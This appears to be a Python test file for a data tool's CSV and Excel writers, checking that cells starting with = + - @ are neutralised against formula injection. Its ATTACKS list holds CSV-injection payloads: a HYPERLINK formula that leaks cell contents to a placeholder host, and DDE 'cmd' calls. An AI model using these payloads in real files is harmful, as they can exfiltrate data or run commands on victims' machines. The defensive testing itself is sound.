"""Issue 18: text that starts with = + - @ never becomes a formula in a CSV or xlsx we write, numbers are
untouched, and our own tables read back exactly."""
from __future__ import annotations

import zipfile

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from spm_helpers.compliance import workbook as ce
from spm_helpers.errors import Problem
from spm_helpers.inputs import datastore
from spm_helpers.inputs.workbook import highlight_copy

ATTACKS = ["=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'=sudah berapostrof"]


def test_csv_text_cells_are_neutralised_and_numbers_untouched(tmp_path):
    df = pd.DataFrame({"kode_wilayah": ["32.75"] * len(ATTACKS), "sumber_data": ATTACKS,
                       "jumlah_sasaran": [-5, 0, 12, 1_234_567, 3, 4], "teks_angka": ["-5", "+62 812", "1,5", "-", "7", "x"]})
    path = datastore.write_table(df, tmp_path / "sasaran.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    for cell in raw["sumber_data"]:
        assert cell.startswith("'"), cell  # a spreadsheet shows it as text
    assert raw["jumlah_sasaran"].tolist() == ["-5", "0", "12", "1234567", "3", "4"]  # numbers as they were
    assert raw["teks_angka"].tolist() == ["-5", "'+62 812", "1,5", "'-", "7", "x"]  # a plain number stays
    back = datastore.read_table(path)
    assert back["sumber_data"].tolist() == ATTACKS  # and our reader gets the exact text back
    assert back["teks_angka"].astype(str).tolist() == df["teks_angka"].tolist()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet="'=+-@\t1a. ,", min_size=1, max_size=6), min_size=1, max_size=8))
def test_any_text_round_trips_and_never_starts_a_formula(tmp_path_factory, texts):
    df = pd.DataFrame({"kode_jenis": ["X"] * len(texts), "sumber_data": texts})
    path = datastore.write_table(df, tmp_path_factory.mktemp("t") / "t.csv")
    assert datastore.read_table(path)["sumber_data"].tolist() == texts
    for cell in pd.read_csv(path, dtype=str, keep_default_na=False)["sumber_data"]:
        if cell.startswith(("=", "+", "-", "@", "\t")):  # only a plain number such as -5 or +1 may
            assert datastore._PLAIN_NUMBER.fullmatch(cell), cell


def _formulas(xlsx) -> list[str]:
    with zipfile.ZipFile(xlsx) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_checklist_unit_names_are_never_formulas(tmp_path):
    path = ce.write_formulir(tmp_path / "f.xlsx", "14.10", 2024, units=ATTACKS[:2] + ["RSUD"])
    assert _formulas(path) == []
    ws = load_workbook(path)[ce.SHEET]
    heads = [ws.cell(ce.HEADER_ROW, ce.FIRST_UNIT_COL + i).value for i in range(3)]
    assert heads == ATTACKS[:2] + ["RSUD"]


def test_marked_copy_problem_sheet_keeps_text_as_text(tmp_path):
    src = ce.write_formulir(tmp_path / "f.xlsx", "14.10", 2024, units=["RSUD"])
    dst = highlight_copy(src, tmp_path / "bertanda.xlsx",
                         [Problem("=HYPERLINK(\"http://x.invalid\")", berkas="f.xlsx", sheet=ce.SHEET, baris=8,
                                  kolom="RSUD", nilai="=1+1")])
    assert _formulas(dst) == []
